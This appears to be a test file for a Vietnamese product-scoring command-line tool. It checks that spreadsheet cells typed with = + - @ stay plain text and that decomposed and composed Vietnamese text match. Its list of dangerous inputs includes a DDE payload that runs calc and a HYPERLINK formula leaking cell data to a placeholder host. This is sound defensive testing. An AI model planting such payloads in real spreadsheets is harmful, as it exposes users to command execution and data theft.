/**
 * Text fields as secretariats type and paste them: names that start with = + - @ (a formula, or a
 * DDE payload, if written carelessly) and Vietnamese in composed (NFC) and decomposed (NFD) forms.
 * Through the real command line (CSV in, workbooks out), every such text is written as text, never
 * as a formula, in every sheet of every workbook; and NFD headers, roles and codes read like NFC.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readWorkbook } from "../../src/app/readWorkbook";
import { run } from "../../src/cli/main";
import { ExcelJsHost } from "../reference/exceljsHost";
import { loadEdition } from "../../src/ocop/criteria/builtin";
import { allowedPoints, criteriaOf } from "../../src/ocop/criteria/catalogue";
import { layoutOf } from "./corpus";
import { XlsxPackage } from "./xlsxXml";

const NFD = (s: string): string => s.normalize("NFD");

/** Texts that a spreadsheet would take as formulas if they were written as typed. */
const DANGEROUS = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  "+84 912 345 678",
  "-Tân Hưng",
  "@SUM(1+1)",
  "=1+1",
];

const productsCsv = [
  // Headers typed on a Mac: decomposed.
  [
    NFD("Mã sản phẩm"),
    NFD("Tên sản phẩm"),
    NFD("Chủ thể"),
    NFD("Xã, phường"),
    NFD("Nhóm sản phẩm"),
    NFD("Bộ sản phẩm"),
    NFD("Phiếu chấm"),
  ],
  [
    "SP-01",
    DANGEROUS[0]!,
    DANGEROUS[2]!,
    DANGEROUS[3]!,
    "Thực phẩm tươi sống",
    "Rau, củ, quả, hạt tươi",
    "01",
  ],
  [
    "SP-02",
    NFD("Khô cá lóc Mỹ Thạnh"),
    DANGEROUS[4]!,
    "Xã Mỹ Thạnh",
    "Thực phẩm tươi sống",
    NFD("Thịt, thủy sản, trứng, sữa tươi"),
    "02",
  ],
  [
    "SP-03",
    DANGEROUS[5]!,
    "HTX Tân Hưng",
    "Xã Tân Hưng",
    "Thực phẩm tươi sống",
    "Rau, củ, quả, hạt tươi",
    "01",
  ],
];
const membersCsv = [
  [NFD("Mã thành viên"), NFD("Họ và tên"), NFD("Chức vụ, đơn vị"), NFD("Vai trò")],
  ["TV01", NFD("Nguyễn Thị Ánh"), DANGEROUS[1]!, NFD("Chủ tịch Hội đồng")],
  ["TV02", "Trần Văn Ơn", "Chuyên gia", NFD("Thành viên")],
  ["TV03", "Lê Ngọc Ánh", "Chuyên viên", "Thành viên"],
];
const csv = (rows: string[][]): string =>
  "\uFEFF" +
  rows
    .map((r) => r.map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(","))
    .join("\r\n") +
  "\r\n";

let dir: string;
const io = { stdout: () => undefined, stderr: () => undefined, now: () => new Date("2023-06-15T08:00:00Z") };

/** Every cell of every sheet whose stored text is one of `texts` (NFC-compared), with its formula if any. */
const cellsHolding = async (
  bytes: Uint8Array,
  texts: string[]
): Promise<{ sheet: string; cell: string; text: string; formula?: string }[]> => {
  const pkg = await XlsxPackage.load(bytes);
  const wanted = new Set(texts.map((t) => t.normalize("NFC")));
  const out: { sheet: string; cell: string; text: string; formula?: string }[] = [];
  for (const s of await pkg.sheets()) {
    for (const [cell, v] of await pkg.allCells(s.name)) {
      if (typeof v.value === "string" && wanted.has(v.value.normalize("NFC"))) {
        out.push({ sheet: s.name, cell, text: v.value, ...(v.formula ? { formula: v.formula } : {}) });
      }
    }
  }
  return out;
};

/** Every formula in the package: only the add-in's own sums and references may be there. */
const formulas = async (bytes: Uint8Array): Promise<string[]> => {
  const pkg = await XlsxPackage.load(bytes);
  const out: string[] = [];
  for (const s of await pkg.sheets()) {
    const xml = await pkg.read(s.path);
    for (const m of xml.matchAll(/<f(?:\s[^>]*)?>([\s\S]*?)<\/f>/g)) out.push(m[1]!);
  }
  return out;
};

const OWN_FORMULA = /^(?:SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+(?:\+[A-Z]+\d+)*)$/;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "ocop-rel-text-"));
  writeFileSync(join(dir, "products.csv"), csv(productsCsv));
  writeFileSync(join(dir, "members.csv"), csv(membersCsv));
  const init = await run(
    [
      "init",
      "--products",
      join(dir, "products.csv"),
      "--members",
      join(dir, "members.csv"),
      "--edition",
      "qd148-2023",
      "--out",
      join(dir, "council.xlsx"),
    ],
    io
  );
  expect(init).toBe(0);
  expect(await run(["books", join(dir, "council.xlsx"), "--out-dir", join(dir, "books")], io)).toBe(0);
}, 120_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("text that starts with = + - @", () => {
  it("is stored as text in the council workbook made by `ocop init`", async () => {
    const bytes = new Uint8Array(readFileSync(join(dir, "council.xlsx")));
    const found = await cellsHolding(bytes, DANGEROUS);
    // Each dangerous text is somewhere (products, members, score sheet headers) and never a formula.
    for (const t of DANGEROUS)
      expect(found.map((f) => f.text.normalize("NFC"))).toContain(t.normalize("NFC"));
    expect(found.filter((f) => f.formula)).toEqual([]);
    const own = await formulas(bytes);
    expect(own.filter((f) => !OWN_FORMULA.test(f))).toEqual([]);
  });

  it("is stored as text in every member book made by `ocop books`", async () => {
    for (const name of readdirSync(join(dir, "books"))) {
      const bytes = new Uint8Array(readFileSync(join(dir, "books", name)));
      const found = await cellsHolding(bytes, DANGEROUS);
      expect(found.length).toBeGreaterThan(0);
      expect(found.filter((f) => f.formula)).toEqual([]);
      expect((await formulas(bytes)).filter((f) => !OWN_FORMULA.test(f))).toEqual([]);
    }
  });

  it("is stored as text in the results sheets written by `ocop consolidate`, and reads back unchanged", async () => {
    const catalogue = await loadEdition("qd148-2023");
    const council = new Uint8Array(readFileSync(join(dir, "council.xlsx")));
    const read = await readWorkbook(await ExcelJsHost.fromBuffer(council));
    const session = read.session!;
    // Fill each member's sheet with the highest level everywhere, at the XML level.
    const pkg = await XlsxPackage.load(council);
    for (const m of session.members) {
      const layout = layoutOf(session, catalogue, m.code);
      for (const p of session.products) {
        for (const { criterion } of criteriaOf(catalogue.forms.get(p.form)!)) {
          const a = layout.cells.get(`${p.code}|${criterion.id.toUpperCase()}`)!;
          await pkg.setCell(layout.sheet, a, { number: Math.max(...allowedPoints(criterion)) });
        }
      }
    }
    writeFileSync(join(dir, "filled.xlsx"), await pkg.save());
    expect(await run(["consolidate", join(dir, "filled.xlsx"), "--out", join(dir, "result.xlsx")], io)).toBe(
      0
    );
    const result = new Uint8Array(readFileSync(join(dir, "result.xlsx")));
    const found = await cellsHolding(result, DANGEROUS);
    const sheets = new Set(found.map((f) => f.sheet));
    expect(sheets.has("Bảng xếp hạng")).toBe(true);
    expect(found.filter((f) => f.formula)).toEqual([]);
    // Read back: the names are what was typed (up to Unicode form).
    const back = await readWorkbook(await ExcelJsHost.fromBuffer(result));
    expect(back.session!.products.map((p) => p.name.normalize("NFC"))).toEqual(
      productsCsv.slice(1).map((r) => r[1]!.normalize("NFC"))
    );
    expect(back.session!.members[0]!.title).toBe(DANGEROUS[1]);
  });
});

describe("Vietnamese in composed and decomposed forms", () => {
  it("decomposed CSV headers and role names read like composed ones", async () => {
    const read = await readWorkbook(
      await ExcelJsHost.fromBuffer(new Uint8Array(readFileSync(join(dir, "council.xlsx"))))
    );
    expect(read.findings.filter((f) => f.severity === "error")).toEqual([]);
    expect(read.session!.products.map((p) => p.form)).toEqual(["01", "02", "01"]);
    expect(read.session!.members.map((m) => m.role)).toEqual(["chair", "member", "member"]);
  });

  it("a book's sheet found under its name in either form", async () => {
    const name = readdirSync(join(dir, "books")).find((n) => n.startsWith("TV01"))!;
    const pkg = await XlsxPackage.load(new Uint8Array(readFileSync(join(dir, "books", name))));
    await pkg.renameSheet("Phiếu TV01", NFD("Phiếu TV01"));
    const bytes = await pkg.save();
    const host = await ExcelJsHost.fromBuffer(bytes);
    const { sheets, missing } = await host.readSheets(["Phiếu TV01"]);
    expect(missing).toEqual([]);
    expect(sheets[0]!.name).toBe(NFD("Phiếu TV01"));
  });
});
